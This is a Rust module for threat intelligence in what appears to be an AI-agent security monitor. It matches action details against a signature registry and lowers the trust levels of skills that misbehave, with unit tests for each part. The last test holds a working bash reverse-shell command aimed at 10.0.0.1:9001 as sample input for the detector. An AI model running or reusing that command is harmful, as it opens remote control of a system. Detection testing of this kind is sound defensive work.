#![allow(dead_code)]

//! Threat Intelligence
//!
//! Owns the signature registry and the skill-trust decay state machine.
//! Signature matching is read-modify-write on hit counts; trust records
//! persist through the session store.

pub mod signatures;
pub mod trust;
pub mod types;

pub use signatures::{SignatureRegistry, SignatureStats};
pub use trust::{calculate_trust_after_threat, generate_fingerprint};
pub use types::{SignatureCategory, SignatureDef, SkillTrust, ThreatSignature, TrustLevel};

use std::sync::Arc;

use serde_json::Value;

use crate::logic::store::{BehaviorEvent, SessionStore, StoreError};

pub struct ThreatIntel {
    registry: SignatureRegistry,
    store: Arc<dyn SessionStore>,
}

impl ThreatIntel {
    pub fn new(store: Arc<dyn SessionStore>) -> Self {
        Self {
            registry: SignatureRegistry::new(),
            store,
        }
    }

    /// Serialize the action details and test every signature against them.
    /// Returns the matched set (possibly empty).
    pub fn match_signatures(&self, details: &Value) -> Vec<ThreatSignature> {
        let serialized = details.to_string();
        self.registry.match_serialized(&serialized)
    }

    pub fn register_signature(&self, def: SignatureDef) {
        self.registry.register(def);
    }

    pub fn import_signatures(&self, defs: Vec<SignatureDef>) -> usize {
        self.registry.import(defs)
    }

    pub fn export_signatures(&self) -> Vec<SignatureDef> {
        self.registry.export()
    }

    pub fn stats(&self) -> SignatureStats {
        self.registry.stats()
    }

    /// Drive the trust-decay machine for one observed threat. Unseen
    /// skills are seeded at untrusted; existing skills accumulate history
    /// and only ever move down the scale.
    pub fn record_skill_threat(
        &self,
        skill_id: &str,
        event: &BehaviorEvent,
    ) -> Result<SkillTrust, StoreError> {
        let mut trust = match self.store.get_skill_trust(skill_id)? {
            Some(mut existing) => {
                existing.threat_history += 1;
                existing.trust_level = calculate_trust_after_threat(
                    existing.trust_level,
                    event.threat_level,
                    existing.threat_history,
                );
                existing
            }
            None => SkillTrust::seed(skill_id),
        };

        trust.behavioral_fingerprint = generate_fingerprint(event);
        trust.last_audit_at = Some(event.timestamp);
        self.store.set_skill_trust(&trust)?;

        log::debug!(
            "Skill '{}' trust now {} ({} threat(s) on record)",
            skill_id,
            trust.trust_level,
            trust.threat_history
        );
        Ok(trust)
    }
}

// ============================================================================
// TESTS
// ============================================================================

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logic::store::{BehaviorDraft, EventType, MemoryStore, ThreatLevel};
    use serde_json::json;

    fn intel_with_store() -> (ThreatIntel, Arc<MemoryStore>) {
        let store = Arc::new(MemoryStore::new());
        (ThreatIntel::new(store.clone()), store)
    }

    fn threat_event(store: &MemoryStore, level: ThreatLevel) -> BehaviorEvent {
        store
            .record_behavior(
                BehaviorDraft::new("s1", "a1", EventType::ProcessSpawn, json!({"command": "x"}))
                    .with_threat(level, Some("TEST_SIG".to_string()), level.is_high()),
            )
            .unwrap()
    }

    #[test]
    fn test_unseen_skill_seeds_untrusted() {
        let (intel, store) = intel_with_store();
        let event = threat_event(&store, ThreatLevel::Medium);

        let trust = intel.record_skill_threat("new-skill", &event).unwrap();
        assert_eq!(trust.trust_level, TrustLevel::Untrusted);
        assert_eq!(trust.threat_history, 1);
        assert_eq!(trust.behavioral_fingerprint.len(), 64);
    }

    #[test]
    fn test_certified_skill_falls_to_untrusted_on_critical() {
        let (intel, store) = intel_with_store();
        let mut trust = SkillTrust::seed("payments");
        trust.trust_level = TrustLevel::Certified;
        store.set_skill_trust(&trust).unwrap();

        let event = threat_event(&store, ThreatLevel::Critical);
        let updated = intel.record_skill_threat("payments", &event).unwrap();
        assert_eq!(updated.trust_level, TrustLevel::Untrusted);
        assert_eq!(updated.threat_history, 2);
    }

    #[test]
    fn test_three_medium_events_force_unknown() {
        let (intel, store) = intel_with_store();
        let mut trust = SkillTrust::seed("search");
        trust.trust_level = TrustLevel::Verified;
        trust.threat_history = 0;
        store.set_skill_trust(&trust).unwrap();

        for _ in 0..2 {
            let event = threat_event(&store, ThreatLevel::Medium);
            let t = intel.record_skill_threat("search", &event).unwrap();
            assert_eq!(t.trust_level, TrustLevel::Verified);
        }
        let event = threat_event(&store, ThreatLevel::Medium);
        let t = intel.record_skill_threat("search", &event).unwrap();
        assert_eq!(t.threat_history, 3);
        assert_eq!(t.trust_level, TrustLevel::Unknown);
    }

    #[test]
    fn test_match_signatures_on_details() {
        let (intel, _) = intel_with_store();
        let matched = intel.match_signatures(&json!({
            "command": "bash",
            "args": "-i >& /dev/tcp/10.0.0.1/9001 0>&1",
        }));
        assert!(matched.iter().any(|s| s.signature_id == "REVERSE_SHELL"));
    }
}
